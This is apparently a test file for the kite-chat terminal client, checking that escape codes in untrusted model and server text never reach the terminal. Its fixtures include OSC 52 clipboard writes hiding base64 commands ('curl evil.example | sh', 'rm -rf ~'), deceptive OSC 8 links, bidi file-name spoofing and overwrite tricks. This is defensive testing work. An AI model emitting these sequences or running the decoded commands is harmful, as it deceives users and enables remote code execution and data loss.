// Model text and server text are untrusted on the terminal (PEERS.md R14, DESIGN.md house style 6): spawned as a user
// runs kite-chat, an answer and tool texts carrying ANSI colour and screen codes, OSC 8 links, OSC 52 clipboard
// writes, `\r` overwrites, C1 controls and bidi overrides reach stdout and stderr with none of them; every code point
// of both streams is checked, and stdout is compared whole.
import { TOOL_CATALOG } from '../../support/fake-kite/mock-data.js';
import { expect, test } from '../../support/fixtures.js';
import { startTinyMcpServer, textResult, type TinyMcpServer } from '../../support/tiny-mcp-server.js';

/** What may not reach a terminal from untrusted text: C0 controls but \n and \t (so also ESC and \r), DEL, C1, bidi. */
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

/** A model answer written to fool the person reading it, line by line, and what of it should be shown. */
const HOSTILE_ANSWER = [
  'Holdings: \u001b[38;5;196mINFY\u001b[0m is up.\n',
  '\u001b]8;;https://evil.example/steal\u0007Open Kite\u001b]8;;\u0007 to check.\n',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007Nothing was copied.\n',
  'Cash: ₹12\rCash: ₹12,00,000\n',
  'File: \u202etxt.exe\u202c is safe.\n',
  '\u009b2J\u001b[2J\u001b[HThe end.',
].join('');
const SHOWN_ANSWER = [
  'Holdings: INFY is up.\n',
  'Open Kite to check.\n',
  'Nothing was copied.\n',
  'Cash: ₹12Cash: ₹12,00,000\n',
  'File: txt.exe is safe.\n',
  'The end.\n',
].join('');
/** A tool's error text from a hostile server; the stderr tool line shows its first line. */
const HOSTILE_TOOL_ERROR = 'Failed: \u001b[2J\u001b[Hcleared \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b]52;c;ZWNobyBoaQ==\u0007copied \rOVERWRITE \u202eCBA\u202c \u009b31mred\u009b0m';
const SHOWN_TOOL_ERROR = 'Failed: cleared link copied OVERWRITE CBA red';

function hostileServer(): Promise<TinyMcpServer> {
  return startTinyMcpServer({
    tools: [
      ...TOOL_CATALOG,
      {
        name: 'zz_notes',
        description: 'Reads notes.\u001b]52;c;cm0gLXJmIH4=\u0007 \u001b[8mhidden\u001b[0m \u202eesrever\u202c \u009b2J\rDone.',
        inputSchema: { type: 'object', properties: {} },
        annotations: { readOnlyHint: true },
      },
    ],
    answer: ({ name }) => (name === 'get_holdings' ? textResult(HOSTILE_TOOL_ERROR, true) : textResult('{}')),
  });
}

test('--ask shows a hostile answer and hostile tool texts with no terminal control on stdout or stderr', async ({ closeAfter, model, cli }) => {
  const server = closeAfter(await hostileServer());
  model.push(
    { toolCalls: [{ name: 'get_holdings', arguments: { limit: 5 } }, { name: '\u001b]0;owned\u0007read_secrets\u202e', arguments: {} }] },
    { text: HOSTILE_ANSWER },
  );

  const run = await cli(['--ask', 'How am I doing?', '--url', server.mcpUrl]);

  expect(run.code).toBe(0);
  expect(run.stdout).toBe(SHOWN_ANSWER);
  expect(run.stderr).not.toMatch(TERMINAL_CONTROL);
  expect(run.stderr).toContain(SHOWN_TOOL_ERROR);
  expect(run.stderr).toMatch(/✗ read_secrets\b/); // the model's made-up tool name, without its title-setting escape
});

test('--ask --json escapes every terminal control inside its JSON string', async ({ closeAfter, model, cli }) => {
  const server = closeAfter(await hostileServer());
  model.push({ text: HOSTILE_ANSWER });

  const run = await cli(['--ask', 'How am I doing?', '--json', '--url', server.mcpUrl]);

  expect(run.code).toBe(0);
  expect((JSON.parse(run.stdout) as { answer: string }).answer).toBe(HOSTILE_ANSWER); // the data itself is kept
  expect(run.stdout).not.toMatch(TERMINAL_CONTROL);
});

test('kite-chat tools shows hostile tool descriptions with no terminal control on stdout', async ({ closeAfter, cli }) => {
  const server = closeAfter(await hostileServer());

  const run = await cli(['tools', '--url', server.mcpUrl]);

  expect(run.code).toBe(0);
  expect(run.stdout).toMatch(/zz_notes\s+write\s+Reads notes\./); // a Kite catalog: a tool Kite lacks counts as write
  expect(run.stdout).not.toMatch(TERMINAL_CONTROL);
});

test('in the REPL, hostile order arguments and a hostile answer reach the terminal without their escape sequences', async ({ startKite, model, repl }) => {
  const kite = await startKite({ autoLogin: true });
  const symbol = 'INFY\u001b]52;c;cm0gLXJmIH4=\u0007\u202e';
  model.push(
    { toolCalls: [{ name: 'place_order', arguments: { variety: 'regular', exchange: 'NSE', tradingsymbol: symbol, transaction_type: 'BUY', quantity: 1, product: 'CNC', order_type: 'LIMIT', price: 10 } }] },
    { text: HOSTILE_ANSWER },
  );
  const session = repl(['--url', kite.mcpUrl, '--no-browser', '--trading']);

  await session.waitFor('›');
  await session.say('Buy one', 'The end.');
  session.type('/exit\r');
  expect(await session.exit).toBe(0);

  const screen = session.output();
  // The order preview shows the symbol's escapes as visible text, and refuses a symbol Kite could not have.
  expect(session.text()).toContain('"INFY\\u001b]52;c;cm0gLXJmIH4=\\u0007\\u202e" is not a Kite trading symbol');
  expect(kite.requests.filter((request) => request.tool === 'place_order')).toEqual([]);
  for (const sequence of ['\u001b]52;', '\u001b]8;', '\u001b]0;', '\u001b[38;5;196m', '\u001b[2J', '\u009b', '\u202e', '\u202c', '₹12\rCash']) {
    expect(screen).not.toContain(sequence);
  }
});
